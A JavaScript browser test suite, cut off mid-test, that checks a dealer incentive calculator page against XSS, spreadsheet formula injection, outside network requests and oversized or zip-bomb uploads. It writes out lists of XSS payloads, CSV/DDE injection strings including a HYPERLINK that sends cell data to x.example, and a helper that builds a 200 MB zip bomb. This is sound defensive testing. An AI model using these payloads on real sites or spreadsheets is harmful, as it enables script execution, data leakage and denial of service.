// Security of the dealer's page, on both outputs (the offline file from file:// and the
// static site over http):
//  - script payloads in every text of a programme, in uploaded CSV/XLSX cells and
//    headers, in ?program= / ?lang= and in a share link show as text and never run
//    (checked with the Content-Security-Policy bypassed, so that the page's own escaping
//    is what is tested, not the policy);
//  - the result export and the templates cannot carry a spreadsheet formula;
//  - the page makes no request of its own (only its own file / origin);
//  - a CSV over the page's 50 MB limit and malformed, truncated, oversized or "zip bomb"
//    XLSX files are refused with a translated message while the tab keeps responding and
//    the typed figures stay;
//  - a failing WASM engine (trap, JS exception, failure to start) shows an error and
//    keeps the dealer's figures.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chromium } from 'playwright-core';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import writeXlsxFile from 'write-excel-file/node';
import { unzipSync, strFromU8 } from 'fflate';
import { startServer } from '../../scripts/serve.mjs';
import { CHROMIUM, CHROMIUM_ARGS, OFFLINE_URL, WEB_ROOT, ensureBuilt, settled, revision, typeFigure, sampleProgram, sampleFigures, shownTotals, noticeText } from './helpers.mjs';

// ---- payloads and the programme that carries them ------------------------------------

const PAYLOADS = [
  '<img src=x onerror=window.__pwned=1>',
  '<script>window.__pwned=1</script>',
  '"><svg onload=window.__pwned=1>',
  'javascript:window.__pwned=1//',
  '{{constructor.constructor("window.__pwned=1")()}}',
  "'><img src=http://127.0.0.1:9/beacon.png onerror=window.__pwned=1>",
  '${window.__pwned=1} {file} {count} {message} __proto__',
  '</textarea></title><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">x</a><style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>',
];

/**
 * Every text field of a programme (spec §1–§6 and docs/schema/program.schema.json), on
 * the sample programme, set by text(path). Half are plain strings, half localized
 * objects with the same text in both languages (both paths of pickText).
 */
function programWithTexts(text) {
  const p = sampleProgram();
  delete p.$schema;
  const fields = [];
  let n = 0;
  const set = (obj, key, path, { plain = false } = {}) => {
    const s = text(path, n);
    obj[key] = plain || n % 2 === 0 ? s : { 'zh-CN': s, en: s };
    fields.push({ path, text: s });
    n += 1;
  };
  set(p, 'id', '/id', { plain: true });
  set(p, 'version', '/version', { plain: true });
  set(p, 'name', '/name');
  set(p, 'description', '/description');
  p.units.forEach((u, i) => {
    set(u, 'label', `/units/${i}/label`);
    set(u, 'help', `/units/${i}/help`);
  });
  p.metrics.forEach((m, i) => {
    for (const k of ['label', 'help', 'unit_label', 'placeholder']) set(m, k, `/metrics/${i}/${k}`);
  });
  p.derived.forEach((d, i) => {
    set(d, 'label', `/derived/${i}/label`);
    set(d, 'help', `/derived/${i}/help`);
  });
  p.scores.forEach((s, i) => {
    set(s, 'label', `/scores/${i}/label`);
    set(s, 'help', `/scores/${i}/help`);
    s.items.forEach((it, j) => set(it, 'label', `/scores/${i}/items/${j}/label`));
  });
  const award = (a, path) => {
    set(a, 'label', `${path}/label`);
    set(a, 'help', `${path}/help`);
    set(a, 'id', `${path}/id`, { plain: true });
  };
  p.rules.forEach((r, i) => {
    set(r, 'label', `/rules/${i}/label`);
    set(r, 'help', `/rules/${i}/help`);
    (r.tiers || []).forEach((tier, j) => {
      set(tier, 'name', `/rules/${i}/tiers/${j}/name`);
      set(tier, 'help', `/rules/${i}/tiers/${j}/help`);
      if (tier.award) award(tier.award, `/rules/${i}/tiers/${j}/award`);
    });
    if (r.award) award(r.award, `/rules/${i}/award`);
  });
  p.caps.forEach((c, i) => {
    set(c, 'label', `/caps/${i}/label`);
    set(c, 'help', `/caps/${i}/help`);
  });
  return { program: p, fields };
}

const payloadProgram = () => programWithTexts((path, n) => `${PAYLOADS[n % PAYLOADS.length]} #F${n}`);

// The texts the page shows (in the form, the cards, the scorecard, the rules view, the
// print statement) once the rules view is open. The others (description, help of units,
// derived values, scores, tiers and awards, score item labels, unit_label, placeholder,
// award ids) are not displayed by the page today; they are still checked to stay inert.
const SHOWN = /^\/(name|version|units\/\d+\/label|metrics\/\d+\/(label|help)|derived\/\d+\/label|scores\/\d+\/label|rules\/\d+\/(label|help|tiers\/\d+\/(name|award\/label)|award\/label)|caps\/\d+\/(label|help))$/;

// Figures with something in every part of the result: earned tiers, locked rules and
// their unlock drivers, caps that bite (content and community), an award, a projection.
function richFigures(dealer = { id: 'D-0042', name: 'dealer' }) {
  const f = sampleFigures();
  delete f.$schema;
  f.dealer = dealer;
  Object.assign(f.values, { content_reads: 900000, content_posts: 60, community_gmv: 900000 });
  return f;
}

// The static site, served from a copy of dist/web with the payload programme next to it.
let server;
let siteRoot;
before(async () => {
  ensureBuilt();
  siteRoot = mkdtempSync(join(tmpdir(), 'dealer-sec-site-'));
  cpSync(WEB_ROOT, siteRoot, { recursive: true });
  writeFileSync(join(siteRoot, 'payload.json'), JSON.stringify(payloadProgram().program));
  server = await startServer({ root: siteRoot, port: 0 });
});
after(async () => {
  await server?.close();
  if (siteRoot) rmSync(siteRoot, { recursive: true, force: true });
});

// ---- the browser ----------------------------------------------------------------------

/** A fresh browser (new profile), recording every request of the context and CSP violations. */
async function launchPage({ bypassCSP = false, locale = 'zh-CN' } = {}) {
  const dir = mkdtempSync(join(tmpdir(), 'dealer-sec-'));
  const context = await chromium.launchPersistentContext(dir, {
    executablePath: CHROMIUM,
    headless: true,
    args: CHROMIUM_ARGS,
    viewport: { width: 1280, height: 900 },
    locale,
    acceptDownloads: true,
    bypassCSP,
  });
  const page = context.pages()[0] || (await context.newPage());
  const log = { requests: [], errors: [], console: [] };
  context.on('request', (r) => log.requests.push(r.url()));
  page.on('pageerror', (e) => log.errors.push(String(e?.message || e)));
  page.on('console', (m) => log.console.push({ type: m.type(), text: m.text() }));
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`), true);
    // The elements the document itself carries (scripts, icon, styles): anything later was added.
    document.addEventListener('DOMContentLoaded', () => (window.__own = new Set(document.querySelectorAll('*'))));
  });
  const close = async () => {
    await context.close();
    rmSync(dir, { recursive: true, force: true });
  };
  return { context, page, log, close };
}

async function openFresh(page, url) {
  await page.goto(url);
  await settled(page);
  await page.evaluate(() => localStorage.clear());
  await page.goto(url);
  await settled(page);
}

/** Everything in the page that would run or load something: must be empty. */
async function injected(page) {
  return page.evaluate(() => {
    const SVG = 'http://www.w3.org/2000/svg';
    const bad = [];
    const el = document.querySelector('dealer-calculator');
    const roots = [document, el.shadowRoot];
    const own = window.__own;
    if (!own) return ['the page did not finish loading'];
    for (const root of roots) {
      const shadow = root !== document;
      for (const n of root.querySelectorAll('*')) {
        if (own.has(n)) continue;
        const tag = n.localName;
        const where = `${shadow ? 'shadow' : 'document'} <${tag}>`;
        if (/^(script|img|image|iframe|frame|frameset|object|embed|base|link|meta|style|audio|video|source|track|form|math|foreignobject|portal)$/i.test(tag)) bad.push(`${where} ${n.textContent.slice(0, 60)}`);
        if (n.namespaceURI === SVG && !n.closest('svg.chart')) bad.push(`${where} outside a chart`);
        if (n.localName === 'svg' && shadow && !n.classList.contains('chart')) bad.push(`${where} not a chart`);
        for (const a of n.attributes) {
          if (/^on/i.test(a.name)) bad.push(`${where} [${a.name}=${a.value.slice(0, 40)}]`);
          if (/^(href|src|action|formaction|xlink:href|data|srcdoc)$/i.test(a.name) && /^\s*(javascript|data):/i.test(a.value)) bad.push(`${where} [${a.name}=${a.value.slice(0, 40)}]`);
          if (a.name === 'srcdoc') bad.push(`${where} [srcdoc]`);
        }
        if (tag === 'a' && n.getAttribute('href') !== null) bad.push(`${where} link to ${n.getAttribute('href').slice(0, 40)}`);
      }
    }
    if (window.__pwned !== undefined) bad.push(`window.__pwned = ${window.__pwned}`);
    return bad;
  });
}

async function assertInert(b, label) {
  assert.deepEqual(await injected(b.page), [], `${label}: nothing injected, nothing ran`);
  const foreign = b.log.requests.filter((u) => !ownRequest(u));
  assert.deepEqual(foreign, [], `${label}: no request besides the page's own`);
  assert.deepEqual(b.log.errors, [], `${label}: no uncaught error`);
}

let ownOrigin = null;
function ownRequest(url) {
  if (url === OFFLINE_URL) return true;
  return Boolean(ownOrigin) && url.startsWith(ownOrigin);
}

/** The element's text (hidden parts included), the values of its inputs, and the document title. */
async function pageText(page) {
  return page.evaluate(() => {
    const root = document.querySelector('dealer-calculator').shadowRoot;
    const values = [...root.querySelectorAll('input, select, textarea')].map((i) => i.value);
    return [root.textContent, ...values, document.title].join('\n');
  });
}

const notices = (page) => page.evaluate(() => [...document.querySelector('dealer-calculator').shadowRoot.querySelectorAll('.notice')].map((n) => n.textContent).join('\n'));

/** Waits until a notice names the file and none says it is still being read. */
async function waitUpload(page, name) {
  await page.waitForFunction(
    (name) => {
      const text = [...document.querySelector('dealer-calculator').shadowRoot.querySelectorAll('.notice')].map((n) => n.textContent).join('\n');
      return text.includes(name) && !/正在读取|Reading /.test(text);
    },
    name,
    { timeout: 20000 },
  );
}

async function waitNotice(page, pattern, { timeout = 20000 } = {}) {
  await page.waitForFunction(
    (src) => new RegExp(src).test([...document.querySelector('dealer-calculator').shadowRoot.querySelectorAll('.notice')].map((n) => n.textContent).join('\n')),
    pattern.source,
    { timeout },
  );
}

const programPicker = (page) => page.locator('dealer-calculator input[type=file][accept=".json,application/json"]');
const figuresPicker = (page) => page.locator('dealer-calculator input[type=file][accept*=".csv"]');

async function uploadFigures(page, name, buffer, mimeType = 'application/octet-stream') {
  await figuresPicker(page).setInputFiles({ name, mimeType, buffer: Buffer.from(buffer) });
}

/** Opens every part that is built lazily: the rules view, each chart, all actions, the print statement. */
async function openEverything(page) {
  await page.evaluate(() => {
    const root = document.querySelector('dealer-calculator').shadowRoot;
    const rules = root.querySelector('.rules-details');
    if (rules && !rules.open) rules.querySelector('summary').click();
    for (const d of root.querySelectorAll('details.chart-box')) if (!d.open) d.querySelector('summary').click();
    root.querySelector('.more-actions')?.click();
    window.dispatchEvent(new Event('beforeprint'));
  });
  // The rules view and the charts are filled on their 'toggle' events.
  await page.waitForFunction(() => document.querySelector('dealer-calculator').shadowRoot.querySelector('.rules-details')?.dataset.filled);
  await page.waitForTimeout(50);
}

function missingTexts(text, fields) {
  return fields.filter((f) => SHOWN.test(f.path) && !text.includes(f.text)).map((f) => f.path);
}

// ---- script payloads ----------------------------------------------------------------------

test('script payloads in every text of a programme show as text and never run (offline file)', async () => {
  const b = await launchPage({ bypassCSP: true });
  try {
    await openFresh(b.page, OFFLINE_URL);
    const { program, fields } = payloadProgram();
    assert.ok(fields.length > 150, `${fields.length} text fields`);
    let rev = await revision(b.page);
    await programPicker(b.page).setInputFiles({ name: 'payload.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(program)) });
    await settled(b.page, rev);
    assert.equal(await b.page.evaluate(() => document.querySelector('dealer-calculator').program.id), program.id);
    await assertInert(b, 'programme loaded');

    // Figures that reach every part of the result, with a dealer named by payloads.
    const dealer = { id: PAYLOADS[0], name: PAYLOADS[2] };
    rev = await revision(b.page);
    await uploadFigures(b.page, `${PAYLOADS[6]}.json`, JSON.stringify(richFigures(dealer)), 'application/json');
    await settled(b.page, rev);
    const result = await b.page.evaluate(() => document.querySelector('dealer-calculator').result);
    assert.ok(result.adjustments.length >= 2 && result.awards.length >= 1, 'caps bite and an award is earned');
    assert.ok(result.components.some((c) => c.status === 'locked'), 'a locked rule');
    await openEverything(b.page);
    assert.ok(await b.page.evaluate(() => document.querySelector('dealer-calculator').shadowRoot.querySelectorAll('svg.chart text').length > 10), 'charts drawn, tier names in them');
    await assertInert(b, 'result rendered (zh-CN)');
    let text = await pageText(b.page);
    assert.deepEqual(missingTexts(text, fields), [], 'every displayed text is there, literally');
    assert.ok(text.includes(dealer.id) && text.includes(dealer.name), 'dealer id and name as text');
    assert.ok((await notices(b.page)).includes(`${PAYLOADS[6]}.json`), 'the file name as text, placeholders untouched');

    // The same in English (every view rebuilt), after the share link and a reset + undo.
    rev = await revision(b.page);
    await b.page.locator('dealer-calculator select.lang-select').selectOption('en');
    await settled(b.page, rev);
    await openEverything(b.page);
    await b.page.locator('dealer-calculator button[data-action=share]').click();
    await b.page.locator('dealer-calculator button[data-action=reset]').click();
    await b.page.locator('dealer-calculator .notice button.btn').first().click();
    await settled(b.page, 0);
    await openEverything(b.page);
    await assertInert(b, 'result rendered (en)');
    text = await pageText(b.page);
    assert.deepEqual(missingTexts(text, fields), [], 'every displayed text is there in English too');
    assert.ok(text.includes(dealer.name), 'the dealer came back with undo');
  } finally {
    await b.close();
  }
});

test('programme errors that echo payloads (field names, ids, references) show them as text', async () => {
  const b = await launchPage({ bypassCSP: true });
  try {
    await openFresh(b.page, OFFLINE_URL);
    const p = sampleProgram();
    p.metrics[0][PAYLOADS[0]] = 1; // unknown_field {field}
    p.rules[0].base = PAYLOADS[2]; // a reference that is not an id
    p.rules[1].id = PAYLOADS[1]; // bad_id
    p.caps[0].rules = [PAYLOADS[5]];
    p.rules[2].when = { [PAYLOADS[7]]: [1] }; // unknown operator
    await programPicker(b.page).setInputFiles({ name: `${PAYLOADS[4]}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(p)) });
    await b.page.waitForSelector('dealer-calculator .notice-error');
    const text = await notices(b.page);
    assert.ok(text.includes(`${PAYLOADS[4]}.json`), text);
    assert.ok(text.includes(`未知字段“${PAYLOADS[0]}”`), text);
    assert.match(text, /\/rules\/1\/id/);
    // Not JSON at all, in a file named by a payload.
    await programPicker(b.page).setInputFiles({ name: `${PAYLOADS[2]}.json`, mimeType: 'application/json', buffer: Buffer.from(`{"name": "${PAYLOADS[3]}", oops}`) });
    await waitNotice(b.page, /不是有效的 JSON 文件/);
    assert.ok((await notices(b.page)).includes(`${PAYLOADS[2]}.json`));
    // The sample programme is still in place.
    assert.equal(await b.page.evaluate(() => document.querySelector('dealer-calculator').program.id), 'sample-digital-2027h1');
    await assertInert(b, 'programme errors');
  } finally {
    await b.close();
  }
});

test('script payloads in uploaded CSV and XLSX cells, headers and bad values show as text', async () => {
  const b = await launchPage({ bypassCSP: true });
  try {
    await openFresh(b.page, OFFLINE_URL);
    await typeFigure(b.page, 'content_reads', '4321');
    await settled(b.page, 0);
    const q = (s) => `"${String(s).replace(/"/g, '""')}"`;

    // Dealer id and name, unknown header names: applied, the names listed as text.
    const unknown = [PAYLOADS[0], PAYLOADS[2], PAYLOADS[4]];
    const good = [
      ['dealer_id', 'dealer_name', 'as_of', 'content_posts', ...unknown].map(q).join(','),
      [PAYLOADS[1], PAYLOADS[5], '2027-03-15', '12', 'a', 'b', 'c'].map(q).join(','),
    ].join('\r\n');
    let rev = await revision(b.page);
    await uploadFigures(b.page, 'payload.csv', good, 'text/csv');
    await settled(b.page, rev);
    assert.equal(await b.page.locator('dealer-calculator input[name="dealer_id"]').inputValue(), PAYLOADS[1]);
    assert.equal(await b.page.locator('dealer-calculator input[name="dealer_name"]').inputValue(), PAYLOADS[5]);
    let text = await notices(b.page);
    for (const u of unknown) assert.ok(text.includes(u), `unknown column ${u} listed as text: ${text}`);
    await openEverything(b.page);
    await assertInert(b, 'CSV applied');
    assert.ok((await pageText(b.page)).includes(PAYLOADS[5]), 'the dealer name in the statement');

    // Bad cells that the error messages echo: numbers, a yes/no, a date.
    const bad = [
      ['dealer_id', 'content_posts', 'content_reads', 'data_agreement_signed', 'as_of'].join(','),
      ['D-1', PAYLOADS[0], PAYLOADS[2], PAYLOADS[3], PAYLOADS[1]].map(q).join(','),
    ].join('\r\n');
    await uploadFigures(b.page, `${PAYLOADS[4]}.csv`, bad, 'text/csv');
    await waitUpload(b.page, `${PAYLOADS[4]}.csv`);
    text = await notices(b.page);
    assert.ok(text.includes(`“${PAYLOADS[0]}”不是数字`), text);
    assert.ok(text.includes(`“${PAYLOADS[2]}”不是数字`), text);
    assert.ok(text.includes(`“${PAYLOADS[1]}”不是有效日期`), text);
    assert.ok(text.includes(`${PAYLOADS[4]}.csv 第 2 行有错误`), text);
    assert.equal(await b.page.locator('dealer-calculator input[name="content_posts"]').inputValue(), '12', 'the bad row changed nothing');
    await assertInert(b, 'CSV errors');

    // A payload typed into a figure: the field's message echoes it.
    await typeFigure(b.page, 'leads', PAYLOADS[0]);
    await settled(b.page, 0);
    assert.ok((await pageText(b.page)).includes(`“${PAYLOADS[0]}”不是数字`));
    await typeFigure(b.page, 'leads', '');
    await settled(b.page, 0);

    // Several rows: whatever the page offers to choose from, it stays text.
    const rows = ['dealer_id,dealer_name,content_posts', ...PAYLOADS.map((p, i) => [p, PAYLOADS[(i + 3) % PAYLOADS.length], String(i)].map(q).join(','))].join('\r\n');
    await uploadFigures(b.page, 'rows.csv', rows, 'text/csv');
    await waitUpload(b.page, 'rows.csv');
    await assertInert(b, 'several rows');

    // An .xlsx with payloads in header and cells.
    const xlsx = await writeXlsxFile([
      ['dealer_id', 'dealer_name', 'content_posts', PAYLOADS[7]].map((value) => ({ value })),
      [PAYLOADS[8], PAYLOADS[9], 5, 'x'].map((value) => ({ value })),
    ]).toBuffer();
    rev = await revision(b.page);
    await uploadFigures(b.page, 'payload.xlsx', xlsx);
    await settled(b.page, rev);
    assert.equal(await b.page.locator('dealer-calculator input[name="dealer_name"]').inputValue(), PAYLOADS[9]);
    assert.ok((await notices(b.page)).includes(PAYLOADS[7]), 'the unknown header of the sheet as text');
    await openEverything(b.page);
    await assertInert(b, 'XLSX applied');
    assert.equal(await b.page.locator('dealer-calculator input[name="content_reads"]').inputValue(), '4321', 'typed figures the files did not have are kept');
  } finally {
    await b.close();
  }
});

test('payloads in ?program=, ?lang= and a share link show as text (static site)', async () => {
  const b = await launchPage({ bypassCSP: true });
  ownOrigin = server.url.replace(/\/$/, '');
  try {
    // A programme URL that does not answer: the notice names it, as text.
    const bogus = `${PAYLOADS[0]}.json`;
    await b.page.goto(`${server.url}?program=${encodeURIComponent(bogus)}&lang=${encodeURIComponent(PAYLOADS[2])}`);
    await b.page.waitForSelector('dealer-calculator .notice-error');
    assert.ok((await notices(b.page)).includes(bogus));
    await assertInert(b, '?program= that fails');

    // A programme full of payloads from ?program=: the title of the document too.
    await b.page.goto(`${server.url}?program=payload.json`);
    await settled(b.page);
    const { program, fields } = payloadProgram();
    assert.ok((await b.page.title()).includes(program.name), 'document title as text');
    await openEverything(b.page);
    await assertInert(b, 'payload programme over http');
    assert.deepEqual(missingTexts(await pageText(b.page), fields), [], 'every displayed text is there, literally');

    // A share link whose every part is a payload, for the sample programme.
    const hash = new URLSearchParams({ _p: 'sample-digital-2027h1', _v: '2027.1', _d: PAYLOADS[1], _n: PAYLOADS[5], _a: PAYLOADS[3], content_posts: PAYLOADS[0], [PAYLOADS[2]]: '1' });
    await b.page.goto(`${server.url}#${hash}`);
    await settled(b.page);
    assert.equal(await b.page.locator('dealer-calculator input[name="dealer_name"]').inputValue(), PAYLOADS[5]);
    assert.equal(await b.page.locator('dealer-calculator input[name="content_posts"]').inputValue(), PAYLOADS[0]);
    assert.ok((await pageText(b.page)).includes(`“${PAYLOADS[0]}”不是数字`), 'the typed text echoed as text');
    // A share link for another programme whose id and version are payloads.
    const other = new URLSearchParams({ _p: PAYLOADS[4], _v: PAYLOADS[6], _n: PAYLOADS[7] });
    await b.page.goto(`${server.url}?x=1#${other}`);
    await settled(b.page);
    const text = await notices(b.page);
    assert.ok(text.includes(PAYLOADS[4]) && text.includes(PAYLOADS[6]), text);
    await assertInert(b, 'share links');
  } finally {
    ownOrigin = null;
    await b.close();
  }
});

// ---- formula injection ------------------------------------------------------------------------

/** RFC 4180 CSV → rows of cells. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      /* the \n ends the row */
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+cmd|" /C calc"!A0', '-2+3+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '\t=1+1', '\r=1+1', '=1+1'];

test('exports cannot carry a spreadsheet formula: result CSV, CSV and Excel templates', async () => {
  const b = await launchPage();
  try {
    await openFresh(b.page, OFFLINE_URL);
    const { program, fields } = programWithTexts((path, n) => `${FORMULAS[n % FORMULAS.length]} ${n}`);
    let rev = await revision(b.page);
    await programPicker(b.page).setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(program)) });
    await settled(b.page, rev);
    rev = await revision(b.page);
    await uploadFigures(b.page, 'figures.json', JSON.stringify(richFigures({ id: FORMULAS[1], name: FORMULAS[0] })), 'application/json');
    await settled(b.page, rev);
    const grab = async (action) => {
      const [dl] = await Promise.all([b.page.waitForEvent('download'), b.page.locator(`dealer-calculator button[data-action=${action}]`).click()]);
      return { name: dl.suggestedFilename(), bytes: readFileSync(await dl.path()) };
    };
    const dangerous = /^[=+\-@\t\r]/;
    const plainNumber = /^[+-]?\d+(\.\d+)?$/;

    const exported = await grab('export');
    assert.doesNotMatch(exported.name, /[=+@"\t\r\\/]/, `a safe file name: ${exported.name}`);
    const rows = parseCsv(exported.bytes.toString('utf8').replace(/^\uFEFF/, ''));
    const cells = rows.flat();
    assert.ok(rows.length > 20, 'a full statement');
    const unsafe = cells.filter((c) => dangerous.test(c) && !plainNumber.test(c));
    assert.deepEqual(unsafe, [], 'no cell a spreadsheet would run');
    // The texts are there, each behind a leading apostrophe.
    const exportedTexts = fields.filter((f) => cells.includes(`'${f.text}`));
    assert.ok(exportedTexts.length >= 20, `${exportedTexts.length} programme texts exported, escaped`);
    assert.ok(cells.includes(`'${FORMULAS[0]}`) && cells.includes(`'${FORMULAS[1]}`), 'dealer name and id escaped');
    assert.ok(cells.some((c) => /^-\d/.test(c) && plainNumber.test(c)), 'negative amounts (cap adjustments) stay numbers');

    const csvTemplate = await grab('templateCsv');
    const header = parseCsv(csvTemplate.bytes.toString('utf8').replace(/^\uFEFF/, ''));
    assert.deepEqual(header.flat().filter((c) => dangerous.test(c)), []);

    // The Excel template: labels and help are string cells, never formulas.
    const xlsx = await grab('templateXlsx');
    const entries = unzipSync(new Uint8Array(xlsx.bytes));
    const sheets = Object.entries(entries).filter(([k]) => /^xl\/worksheets\/.*\.xml$/.test(k)).map(([, v]) => strFromU8(v));
    assert.ok(sheets.length >= 2);
    for (const s of sheets) assert.doesNotMatch(s, /<f[\s>]/, 'no formula element');
    const strings = [entries['xl/sharedStrings.xml'], ...Object.values(entries)].filter(Boolean).map(strFromU8).join('')
      .replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&amp;/g, '&');
    const labels = fields.filter((f) => /^\/metrics\/\d+\/(label|help)$/.test(f.path) && !/[\t\r]/.test(f.text));
    assert.deepEqual(labels.filter((f) => !strings.includes(f.text)).map((f) => f.path), [], 'labels and help as text cells');
    assert.deepEqual(b.log.errors, []);
  } finally {
    await b.close();
  }
});

// ---- network -----------------------------------------------------------------------------------

/** Uses the page the way a dealer does, touching every path that could load something. */
async function useEverything(page) {
  await typeFigure(page, 'content_posts', '12');
  await settled(page, 0);
  let rev = await revision(page);
  await page.locator('dealer-calculator button[data-action=example]').click();
  await settled(page, rev);
  rev = await revision(page);
  await page.locator('dealer-calculator select.lang-select').selectOption('en');
  await settled(page, rev);
  await openEverything(page);
  const csv = 'dealer_id,content_posts\r\nD-1,14\r\n';
  rev = await revision(page);
  await uploadFigures(page, 'f.csv', csv, 'text/csv');
  await settled(page, rev);
  const xlsx = await writeXlsxFile([[{ value: 'dealer_id' }, { value: 'content_posts' }], [{ value: 'D-2' }, { value: 15 }]]).toBuffer();
  rev = await revision(page);
  await uploadFigures(page, 'f.xlsx', xlsx);
  await settled(page, rev);
  for (const action of ['templateCsv', 'templateXlsx', 'export']) {
    await Promise.all([page.waitForEvent('download'), page.locator(`dealer-calculator button[data-action=${action}]`).click()]);
  }
  await page.locator('dealer-calculator button[data-action=share]').click();
  await page.waitForTimeout(300);
}

test('the offline file makes no request at all; the site only asks its own origin', async () => {
  for (const [label, url] of [['offline', OFFLINE_URL], ['site', server.url]]) {
    const b = await launchPage();
    try {
      await openFresh(b.page, url);
      await useEverything(b.page);
      const requests = b.log.requests.filter((u) => !u.startsWith('blob:'));
      if (label === 'offline') {
        assert.deepEqual([...new Set(requests)], [OFFLINE_URL], 'nothing but the file itself');
      } else {
        const origin = new URL(server.url).origin;
        const foreign = requests.filter((u) => new URL(u).origin !== origin);
        assert.deepEqual(foreign, [], 'nothing from another origin');
        assert.ok(requests.some((u) => /\/assets\/dealer-calc-[0-9a-f]+\.mjs$/.test(u)), 'the engine from the site itself');
      }
      assert.deepEqual(await b.page.evaluate(() => window.__violations), [], `${label}: nothing refused by the Content-Security-Policy`);
      assert.deepEqual(b.log.errors, [], `${label}: no uncaught error`);
    } finally {
      await b.close();
    }
  }
});

// ---- oversized and malformed files --------------------------------------------------------------

/** A ZIP archive from [{name, data, method, declaredSize}] (crc left at 0: no reader here checks it). */
function zipOf(entries) {
  const locals = [];
  const central = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const data = e.method === 8 ? deflateRawSync(e.data, { level: 9 }) : e.data;
    const size = e.declaredSize ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(e.method, 10);
    dir.writeUInt32LE(data.length, 20);
    dir.writeUInt32LE(size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    central.push(dir, name);
    offset += local.length + name.length + data.length;
  }
  const cd = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/**
 * Waits for the outcome of an upload while checking, every 250 ms, that the page answers
 * a trivial evaluation within 3 s: the tab never freezes.
 */
async function uploadOutcome(page, name, start) {
  const began = Date.now();
  await start();
  let slowest = 0;
  for (;;) {
    const t0 = Date.now();
    const answered = await Promise.race([page.evaluate(() => 6 * 7), new Promise((r) => setTimeout(() => r('frozen'), 3000))]);
    slowest = Math.max(slowest, Date.now() - t0);
    assert.equal(answered, 42, `the page answers while ${name} is read`);
    const text = await notices(page);
    if (text.includes(name) && !/正在读取|Reading/.test(text)) return { text, slowest, ms: Date.now() - began };
    assert.ok(Date.now() - began < 20000, `an outcome for ${name} within 20 s`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

test('a CSV over 50 MB and broken, truncated, oversized or bomb XLSX files: refused, the tab responsive, the figures kept', async () => {
  const b = await launchPage();
  try {
    await openFresh(b.page, OFFLINE_URL);
    await typeFigure(b.page, 'content_posts', '7');
    await typeFigure(b.page, 'content_reads', '12,345');
    await settled(b.page, 0);
    const before = await shownTotals(b.page);
    const kept = async (label) => {
      assert.equal(await b.page.locator('dealer-calculator input[name="content_posts"]').inputValue(), '7', `${label}: typed figure kept`);
      assert.equal(await b.page.locator('dealer-calculator input[name="content_reads"]').inputValue(), '12,345', `${label}: typed figure kept`);
      assert.deepEqual(await shownTotals(b.page), before, `${label}: result unchanged`);
    };

    // 60 MB of dealer rows (the network view streams CSV of up to 50 MB in a worker), made
    // in the page (a real File through the file input).
    const big = await uploadOutcome(b.page, 'network-60mb.csv', () =>
      b.page.evaluate(() => {
        const line = 'D-0001,Some dealer name,12,34567\n';
        const text = `dealer_id,dealer_name,content_posts,content_reads\n${line.repeat(Math.ceil(60e6 / line.length))}`;
        const file = new File([text], 'network-60mb.csv', { type: 'text/csv' });
        const input = document.querySelector('dealer-calculator').shadowRoot.querySelector('input[type=file][accept*=".csv"]');
        const dt = new DataTransfer();
        dt.items.add(file);
        input.files = dt.files;
        input.dispatchEvent(new Event('change', { bubbles: true }));
      }),
    );
    assert.match(big.text, /network-60mb\.csv 未能载入，已填写的数据没有改动/);
    assert.match(big.text, /文件太大（57\.2 MB）：本页最多读取 50 MB 的数据文件/);
    assert.ok(big.ms < 5000, `refused at once (${big.ms} ms)`);
    await kept('60 MB CSV');

    const sheet = Buffer.from(`<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${' '.repeat(1000)}`);
    const bombData = Buffer.concat([sheet, Buffer.alloc(200 * 1024 * 1024, 0x20)]); // 200 MB of spaces
    const bomb = zipOf([{ name: 'xl/worksheets/sheet1.xml', data: bombData, method: 8 }]);
    const lying = zipOf([{ name: 'xl/worksheets/sheet1.xml', data: bombData, method: 8, declaredSize: 4096 }]);
    assert.ok(bomb.length < 1024 * 1024, `the bomb is small (${bomb.length} bytes)`);
